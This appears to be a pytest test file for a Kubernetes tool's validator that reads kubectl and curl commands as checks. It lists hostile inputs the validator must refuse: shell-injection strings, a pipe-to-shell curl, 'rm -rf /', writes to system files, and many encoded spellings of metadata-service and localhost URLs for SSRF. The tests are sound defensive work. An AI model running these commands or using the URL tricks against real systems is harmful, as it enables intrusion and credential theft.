"""Validation commands: read as what they would prove, never run; anything but plain reading words is refused."""

from __future__ import annotations

import time

import pytest

from kubernaut.plan.dialects import commands
from kubernaut.plan.dialects.commands import Refused, Shown, Unclear
from kubernaut.plan.model import Check, ListCondition, NamedCondition, QueryCondition, Target

CHECKOUT = Target(cluster="prod", kind="Deployment", namespace="shop", name="checkout")


def read(command: str, target: Target | None = CHECKOUT) -> commands.Reading:
    return commands.read(command, target, cluster="prod")


def running(namespace: str | None, labels: str | None = None) -> ListCondition:
    return ListCondition(
        target=Target(cluster="prod", kind="Pod", namespace=namespace),
        label_selector=labels,
        field_selector="status.phase=Running",
        expression="size(objects) > 0",
    )


ROLLED_OUT = NamedCondition(check="rollout_complete", target=CHECKOUT)


@pytest.mark.parametrize(
    ("command", "check"),
    [
        ("kubectl rollout status deployment/checkout -n shop", ROLLED_OUT),
        ("kubectl -n shop rollout status deployment checkout --timeout=60s", ROLLED_OUT),
        ("kubectl rollout status deploy/checkout", ROLLED_OUT),
        ("kubectl rollout status deployment.apps/checkout --namespace shop --watch=false", ROLLED_OUT),
        (
            "kubectl wait --for=condition=available deployment/checkout -n shop --timeout 2m",
            NamedCondition(check="workload_available", target=CHECKOUT),
        ),
        ("kubectl get pods -n shop --field-selector=status.phase=Running", running("shop")),
        ("kubectl get pods --field-selector status.phase=Running", running("shop")),
        (
            "kubectl get po -nshop -l app=checkout --field-selector=status.phase=Running",
            running("shop", "app=checkout"),
        ),
        ("kubectl get pods -A --field-selector='status.phase=Running' -o name", running(None)),
        ("kubectl top nodes", QueryCondition(source="top", query="kubectl top nodes")),
        (
            "kubectl logs deployment/checkout -n shop",
            QueryCondition(source="logs", query="kubectl logs deployment/checkout -n shop"),
        ),
        ("curl -s http://checkout.shop/healthz", QueryCondition(source="http", query="http://checkout.shop/healthz")),
        (
            "curl 'https://shop.example/q?a=1&b=2'",
            QueryCondition(source="http", query="https://shop.example/q?a=1&b=2"),
        ),
        (
            'prometheus_query: rate(errors_total{code=~"5.."}[5m]) < 0.05',
            QueryCondition(source="promql", query='rate(errors_total{code=~"5.."}[5m]) < 0.05'),
        ),
    ],
)
def test_a_command_becomes_the_check_that_it_would_be(command: str, check: Check) -> None:
    assert read(command) == check


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods -n shop",
        "kubectl get deployment checkout -n shop -o yaml",
        "kubectl get pods,services",
        "kubectl describe pod checkout-x -n shop",
        "kubectl rollout history deployment/checkout",
        "kubectl events -n shop",
    ],
)
def test_a_command_that_only_shows_proves_nothing(command: str) -> None:
    assert isinstance(read(command), Shown)


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods -n shop | grep Running",
        "kubectl get pods; reboot",
        "kubectl get pods && reboot",
        "kubectl get pods & reboot",
        "kubectl get pods || true",
        "kubectl get pods $(whoami)",
        "kubectl get pods `whoami`",
        "kubectl get pods -n $NAMESPACE",
        'kubectl get pods -n "$NAMESPACE"',
        "kubectl get pods -n ${NAMESPACE}",
        "kubectl get pods > /etc/passwd",
        "kubectl get pods < /etc/passwd",
        "kubectl get pods -n {{ namespace }}",
        "kubectl get pods -o go-template='{{.items}}'",
        "kubectl get pods\nreboot",
        "kubectl get pods \\\n -n shop",
        "kubectl get pods -n 'shop",
        "kubectl get (pods)",
        "curl http://a.example/ | sh",
        "prometheus_query: up == 1; drop",
        "kubectl get pods '; reboot'",
        "kubectl get pods\u2028reboot",
    ],
)
def test_what_a_shell_would_act_on_is_refused(command: str) -> None:
    reading = read(command)
    assert isinstance(reading, Refused)
    assert reading.code == "command_not_plain"


@pytest.mark.parametrize(
    "command",
    [
        "kubectl delete pod checkout-x -n shop",
        "kubectl scale deployment/checkout --replicas=0",
        "kubectl --namespace shop delete pod x",
        "kubectl apply -f plan.yaml",
        "kubectl exec checkout-x -- ls",
        "kubectl rollout undo deployment/checkout",
        "kubectl rollout restart deployment/checkout",
        "kubectl rollout",
        "kubectl config view",
        "kubectl proxy",
        "kubectl port-forward svc/checkout 80",
        "kubectl",
        "kubectl --as=root drain n1",
        "curl -X POST http://checkout.shop/",
        "curl -d x=1 http://checkout.shop/",
        "curl -o /etc/cron.d/x http://checkout.shop/",
        "curl --config /tmp/x http://checkout.shop/",
    ],
)
def test_a_command_that_may_write_is_refused(command: str) -> None:
    reading = read(command)
    assert isinstance(reading, Refused)
    assert reading.code == "command_not_read_only"


@pytest.mark.parametrize(
    "command", ["rm -rf /", "", "helm status x", "bash -c ls", "KUBECTL get pods", "./kubectl get pods"]
)
def test_another_command_is_refused(command: str) -> None:
    reading = read(command)
    assert isinstance(reading, Refused)
    assert reading.code == "command_unknown"


@pytest.mark.parametrize(
    "command",
    [
        "kubectl rollout status deployment",
        "kubectl rollout status statefulset/orders -n shop",
        "kubectl rollout status deployment/Not_A_Name",
        "kubectl rollout status spaceship/x",
        "kubectl rollout status deployment/a deployment/b",
        "kubectl get pods --field-selector=status.phase!=Running",
        "kubectl get pods --field-selector=status.phase",
        "kubectl get pods --raw=/api",
        "kubectl get spaceships --field-selector=a=b",
        "kubectl wait --for=delete deployment/checkout",
        "kubectl get pods --field-selector",
        "curl",
        "curl http://a.example http://b.example",
    ],
)
def test_a_reading_command_that_is_not_understood_is_asked(command: str) -> None:
    reading = read(command)
    assert isinstance(reading, Unclear)
    assert reading.reason


def test_without_a_namespace_anywhere_the_command_is_asked() -> None:
    assert isinstance(read("kubectl rollout status deployment/checkout", None), Unclear)
    assert isinstance(read("kubectl get pods --field-selector=status.phase=Running", None), Unclear)


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data",
        "169.254.169.254",
        "http://2852039166/",
        "http://0xA9FEA9FE/",
        "http://0251.0376.0251.0376/",
        "http://0xa9.254.0251.254/",
        "http://169.254.43518/",
        "http://169.254.169.254.:80/",
        "http://[fd00:ec2::254]/",
        "http://[::ffff:169.254.169.254]/",
        "http://[::ffff:a9fe:a9fe]/",
        "http://[64:ff9b::a9fe:a9fe]/",
        "http://[2002:a9fe:a9fe::]/",
        "http://[fe80::1]/",
        "http://[fe80::1%25eth0]/",
        "http://metadata.google.internal/computeMetadata/v1",
        "http://METADATA.google.internal./",
        "http://localhost:8080/",
        "http://x.localhost/",
        "http://127.0.0.1/",
        "http://127.1/",
        "http://0/",
        "http://0.0.0.0:80/",
        "http://[::1]/",
        "http://[::]/",
        "http://[::7f00:1]/",
        "http://user:secret@shop.example/",
        "http://shop.example@169.254.169.254/",
        "file:///etc/passwd",
        "ftp://shop.example/",
        "gopher://shop.example/",
        "http://",
        "http:///x",
        "http://shop.example:99999/",
        "http://１６９.254.169.254/",
        "http://1.2.3.4.5/",
        "http://256.1.1.1/",
        "http://shop%2eexample/",
    ],
)
def test_a_url_of_this_machine_or_a_metadata_service_is_refused_in_every_spelling(url: str) -> None:
    reading = read(f"curl -s {url}")
    assert isinstance(reading, Refused)
    assert reading.code == "url_forbidden"


@pytest.mark.parametrize(
    "url",
    [
        "http://checkout",
        "https://shop.example:8443/health?x=1",
        "http://10.0.0.7/",
        "http://[2001:db8::7]/",
        "http://a1.b2/",
    ],
)
def test_other_urls_are_queries(url: str) -> None:
    assert isinstance(read(f"curl '{url}'"), QueryCondition)


@pytest.mark.parametrize("command", ["kubectl " + "a" * 200_000, "kubectl " + "'" * 100_001, "curl " + "0." * 50_000])
def test_a_monstrous_command_is_judged_at_once(command: str) -> None:
    started = time.perf_counter()
    assert isinstance(read(command), Refused | Unclear)
    assert time.perf_counter() - started < 1
